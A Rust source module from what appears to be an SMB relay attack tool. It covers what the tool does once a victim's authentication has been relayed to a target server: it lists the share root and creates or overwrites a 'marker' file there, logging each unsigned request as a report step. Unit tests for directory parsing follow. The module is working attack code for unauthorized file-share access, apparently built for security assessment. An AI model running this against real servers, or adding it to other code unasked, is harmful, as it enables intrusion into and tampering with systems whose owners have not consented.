//! What the attacker does with a relayed session: list the share root and write a marker
//! file. Every request is unsigned (the relay has no session key) and is one step of the
//! report; the first refusal stops the attack.

use smb_core::codec::DecodeError;
use smb_core::messages::close::{CloseRequest, CloseResponse};
use smb_core::messages::create::{
    access, create_options, file_attributes, share_access, CreateDisposition, CreateRequest,
    CreateResponse, ImpersonationLevel, OplockLevel,
};
use smb_core::messages::info::{decode_directory_entries, FileInfoClass};
use smb_core::messages::query_directory::{
    query_directory_flags, QueryDirectoryRequest, QueryDirectoryResponse,
};
use smb_core::messages::write::{WriteRequest, WriteResponse};
use smb_core::messages::FileId;

use crate::relay::{RelayAttempt, TargetConn};

/// Lists the share root: CREATE (directory), QUERY_DIRECTORY "*", CLOSE.
/// Returns the names, or None when a step was refused.
pub(crate) async fn list_root(
    t: &mut TargetConn,
    attempt: &mut RelayAttempt,
) -> Option<Vec<String>> {
    let open = CreateRequest {
        requested_oplock_level: OplockLevel::NONE,
        impersonation_level: ImpersonationLevel::IMPERSONATION,
        desired_access: access::FILE_LIST_DIRECTORY
            | access::FILE_READ_ATTRIBUTES
            | access::SYNCHRONIZE,
        file_attributes: 0,
        share_access: share_access::READ | share_access::WRITE | share_access::DELETE,
        create_disposition: CreateDisposition::OPEN,
        create_options: create_options::DIRECTORY_FILE,
        name: String::new(),
        ..CreateRequest::default()
    };
    let file_id = open_file(t, attempt, "CREATE", "share root (directory)", &open).await?;
    let mut names = Vec::new();
    let query = QueryDirectoryRequest {
        file_information_class: FileInfoClass::DIRECTORY,
        flags: query_directory_flags::RESTART_SCANS,
        file_index: 0,
        file_id,
        pattern: "*".into(),
        output_buffer_length: 65536,
    };
    let h = t
        .step(
            attempt,
            "QUERY_DIRECTORY",
            "\"*\" in the share root",
            &query,
            |m| {
                names = listing_names(m)?;
                Ok(())
            },
        )
        .await;
    close(t, attempt, file_id).await;
    h.map(|_| {
        names.retain(|n| n != "." && n != "..");
        names
    })
}

/// Creates (or overwrites) `path` and writes `data` to it: CREATE, WRITE, CLOSE.
/// True when the WRITE was accepted in full.
pub(crate) async fn write_file(
    t: &mut TargetConn,
    attempt: &mut RelayAttempt,
    path: &str,
    data: &[u8],
) -> bool {
    let name = path.trim_start_matches(['\\', '/']).replace('/', "\\");
    let open = CreateRequest {
        requested_oplock_level: OplockLevel::NONE,
        impersonation_level: ImpersonationLevel::IMPERSONATION,
        desired_access: access::FILE_WRITE_DATA
            | access::FILE_READ_ATTRIBUTES
            | access::SYNCHRONIZE,
        file_attributes: file_attributes::NORMAL,
        share_access: share_access::READ,
        create_disposition: CreateDisposition::OVERWRITE_IF,
        create_options: create_options::NON_DIRECTORY_FILE,
        name: name.clone(),
        ..CreateRequest::default()
    };
    let Some(file_id) = open_file(t, attempt, "CREATE", &format!("marker {name}"), &open).await
    else {
        return false;
    };
    let write = WriteRequest {
        offset: 0,
        file_id,
        data: data.to_vec(),
        ..WriteRequest::default()
    };
    let mut count = 0u32;
    let detail = format!("{} bytes to {name}", data.len());
    let ok = t
        .step(attempt, "WRITE", &detail, &write, |m| {
            count = WriteResponse::read(m)?.count;
            Ok(())
        })
        .await
        .is_some();
    close(t, attempt, file_id).await;
    ok && count as usize == data.len()
}

async fn open_file(
    t: &mut TargetConn,
    attempt: &mut RelayAttempt,
    request: &str,
    detail: &str,
    body: &CreateRequest,
) -> Option<FileId> {
    let mut file_id = None;
    t.step(attempt, request, detail, body, |m| {
        file_id = Some(CreateResponse::read(m)?.file_id);
        Ok(())
    })
    .await?;
    file_id
}

async fn close(t: &mut TargetConn, attempt: &mut RelayAttempt, file_id: FileId) {
    let req = CloseRequest { flags: 0, file_id };
    let _ = t
        .step(attempt, "CLOSE", "", &req, |m| {
            CloseResponse::read(m).map(|_| ())
        })
        .await;
}

/// The names in a QUERY_DIRECTORY response of FileDirectoryInformation entries.
fn listing_names(message: &[u8]) -> Result<Vec<String>, DecodeError> {
    let buffer = QueryDirectoryResponse::read(message)?.buffer;
    Ok(decode_directory_entries(FileInfoClass::DIRECTORY, &buffer)?
        .into_iter()
        .map(|e| e.file_name)
        .collect())
}

#[cfg(test)]
mod tests {
    use super::*;
    use smb_core::codec::{utf16le, Writer};
    use smb_core::header::{Command, Header, NtStatus};
    use smb_core::messages::EncodeBody;

    fn entry(name: &str, last: bool) -> Vec<u8> {
        let n = utf16le(name);
        let mut e = Vec::new();
        let total = (64 + n.len()).next_multiple_of(8);
        e.put_u32(if last { 0 } else { total as u32 });
        e.put_zeros(56);
        e.put_u32(n.len() as u32);
        e.put_bytes(&n);
        if !last {
            e.resize(total, 0);
        }
        e
    }

    #[test]
    fn directory_listing_parses_and_rejects_garbage() {
        let mut m = Vec::new();
        Header::request(Command::QUERY_DIRECTORY, 3, 1, 1)
            .response(NtStatus::SUCCESS)
            .encode(&mut m);
        let mut buf = entry(".", false);
        buf.extend(entry("secret.txt", false));
        buf.extend(entry("é.doc", true));
        m.put_u16(9);
        m.put_u16(72);
        m.put_u32(buf.len() as u32);
        m.put_bytes(&buf);
        let names = listing_names(&m).unwrap();
        assert_eq!(names, [".", "secret.txt", "é.doc"]);
        // A name length past the buffer, and a truncated buffer, are errors.
        let mut bad = m.clone();
        bad[72 + 60] = 0xFF;
        assert!(listing_names(&bad).is_err());
        assert!(listing_names(&m[..100]).is_err());
    }

    #[test]
    fn query_directory_request_layout() {
        let q = QueryDirectoryRequest {
            file_information_class: FileInfoClass::DIRECTORY,
            flags: query_directory_flags::RESTART_SCANS,
            file_index: 0,
            file_id: FileId {
                persistent: 1,
                volatile: 2,
            },
            pattern: "*".into(),
            output_buffer_length: 4096,
        };
        let mut m = Vec::new();
        Header::request(Command::QUERY_DIRECTORY, 3, 1, 1).encode(&mut m);
        q.encode_body(&mut m);
        assert_eq!(m.len(), 64 + 32 + 2);
        assert_eq!(u16::from_le_bytes([m[88], m[89]]), 96, "FileNameOffset");
        assert_eq!(&m[96..], &[b'*', 0]);
    }
}
